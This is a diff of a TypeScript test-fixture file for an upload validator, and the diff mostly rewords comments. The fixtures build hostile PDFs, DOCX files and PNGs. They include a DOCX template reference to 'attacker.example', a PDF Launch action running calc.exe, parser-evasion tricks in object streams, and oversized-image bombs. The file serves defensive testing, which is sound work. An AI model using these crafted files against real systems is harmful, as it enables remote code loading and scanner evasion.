@@ -4,10 +4,9 @@ import { makeCompoundFile, wordBeginning } from './make-compound-file.ts';
 import { makePdf, stream, writePdf } from './make-pdf.ts';
 import { makeDocx, makeZip } from './make-zip.ts';
 
-/** A malicious or unusual upload, and its expected result. */
 interface NastyFile {
   bytes: () => Buffer | Promise<Buffer>;
-  /** `FILE_...` if it is refused, otherwise the detected type and properties. */
+  /** `FILE_...` for a rejected file, otherwise the detected type and properties. */
   expected: string | { type: string; pages?: number; pixels?: { width: number; height: number } };
 }
 
@@ -19,7 +18,6 @@ const svg = (content: string, attributes = '') =>
   );
 const picture = (width = 60, height = 40) =>
   sharp({ create: { width, height, channels: 3, background: { r: 200, g: 90, b: 30 } } });
-/** The first half of a picture that does not compress well. */
 async function half(format: 'png' | 'jpeg' | 'webp'): Promise<Buffer> {
   const noisy = sharp({
     create: {
@@ -33,14 +31,13 @@ async function half(format: 'png' | 'jpeg' | 'webp'): Promise<Buffer> {
   const bytes = await noisy.toFormat(format).toBuffer();
   return bytes.subarray(0, bytes.length / 2);
 }
-/** A PNG without content that claims this size. */
 async function pngOfSize(width: number, height: number): Promise<Buffer> {
   const bytes = await picture().png().toBuffer();
   bytes.writeUInt32BE(width, 16);
   bytes.writeUInt32BE(height, 20);
   return bytes;
 }
-/** Adds the chunk of an animated PNG. */
+/** Inserts the chunk that makes a PNG animated. */
 async function movingPng(): Promise<Buffer> {
   const bytes = await picture().png().toBuffer();
   const control = Buffer.alloc(20);
@@ -60,14 +57,13 @@ const relationship = (type: string, target: string) =>
   `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
 const MEANINGS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
 const FETCHED = `Type="${MEANINGS}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"`;
-/** A DOCX with one custom relationship in its settings. */
+/** A DOCX with a custom relationship in its settings. */
 const related = (attributes: string) => () =>
   relatedBy(`<Relationships><Relationship Id="r" ${attributes}/></Relationships>`);
 const relatedBy = (content: string | Buffer, name = 'word/_rels/settings.xml.rels') => makeDocx([{ name, content }]);
 const LAUNCH = '<< /S /Launch /F (calc.exe) >>';
 const objectList = (content: string) =>
   stream('/Type /ObjStm /N 1 /First 8 /Filter /FlateDecode', deflateSync(`20000 0 ${content}`));
-/** An object that starts a program, with a custom dictionary and bytes. */
 const launching =
   (dictionary: string, pack: (content: Buffer) => Buffer = deflateSync, before = '') =>
   () => {
@@ -75,7 +71,7 @@ const launching =
     return makePdf({ objects: [Buffer.concat([Buffer.from(before), list])] });
   };
 const inHexadecimal = (content: Buffer) => Buffer.from(`${content.toString('hex')}>`);
-/** Compresses with a PNG predictor, as pictures are. */
+/** Compresses with a PNG predictor, as most PDF writers do for pictures. */
 function inLines(content: Buffer): Buffer {
   const lines = Array.from({ length: Math.ceil(content.length / 4) }, (_, line) => [
     2,
@@ -83,7 +79,7 @@ function inLines(content: Buffer): Buffer {
   ]);
   return deflateSync(Buffer.from(lines.flat()));
 }
-/** Contains an uncompressed part that looks like the end of the object. */
+/** Inserts an uncompressed part that looks like the end of the object. */
 function withEarlyEnd(content: Buffer): Buffer {
   const plain = Buffer.concat([content.subarray(0, 8), Buffer.from('%endstream endobj\n')]);
   const length = Buffer.alloc(4);
@@ -94,7 +90,7 @@ function withEarlyEnd(content: Buffer): Buffer {
   return Buffer.concat([Buffer.from('\x78\x01\0', 'latin1'), length, plain, deflateRawSync(rest), checksum]);
 }
 
-/** Uploads where PDF, DOC or DOCX is expected. */
+/** Uploads where a PDF, DOC or DOCX is expected. */
 export const NASTY_DOCUMENTS: Readonly<Record<string, NastyFile>> = {
   'nothing at all': { bytes: text(''), expected: 'FILE_EMPTY' },
   'one byte': { bytes: text('%'), expected: 'FILE_TYPE' },
@@ -257,13 +253,13 @@ export const NASTY_DOCUMENTS: Readonly<Record<string, NastyFile>> = {
     bytes: () =>
       makePdf({
         objects: [
-          // pdfTeX
+          // as pdfTeX writes them
           stream('\n/Type /ObjStm\n/N 1\n/First 8\n/Filter /FlateDecode\n', deflateSync('20000 0 << /A 1 >>')),
-          // Acrobat, with the list that this one continues
+          // as Acrobat writes them, continuing another list
           stream('/Extends 10000 0 R/Filter[/FlateDecode]/First 8/N 1/Type/ObjStm', deflateSync('20001 0 (/A)')),
           // uncompressed, as PDF inspection tools write them
           stream('/Type /ObjStm /N 1 /First 8 /DecodeParms null', Buffer.from('20002 0 [ /A ]')),
-          // content of other objects: bookmarks, resources, profiles, annotations
+          // the content of other objects, such as bookmarks, resources and annotations
           '<< /Type /Outlines /First 20000 0 R /Last 20000 0 R /Title (\\( a stream\n) % obj <<\n >>',
           stream('/Type /XObject /Resources << /Font << /F 20000 0 R /First 20000 0 R >> >>', Buffer.from('q Q')),
           stream('/N 3 /Alternate /DeviceRGB /Filter [/ASCII85Decode /FlateDecode]', Buffer.from('GhQ~>')),
@@ -521,7 +517,7 @@ export const NASTY_DOCUMENTS: Readonly<Record<string, NastyFile>> = {
   },
 };
 
-/** Uploads where pictures or drawings are expected. */
+/** Uploads where a picture or drawing is expected. */
 export const NASTY_PICTURES: Readonly<Record<string, NastyFile>> = {
   'a PNG of 3,600 million pixels': { bytes: () => pngOfSize(60_000, 60_000), expected: 'FILE_TOO_COMPLEX' },
   'a PNG without pixels': { bytes: () => pngOfSize(0, 0), expected: 'FILE_UNREADABLE' },
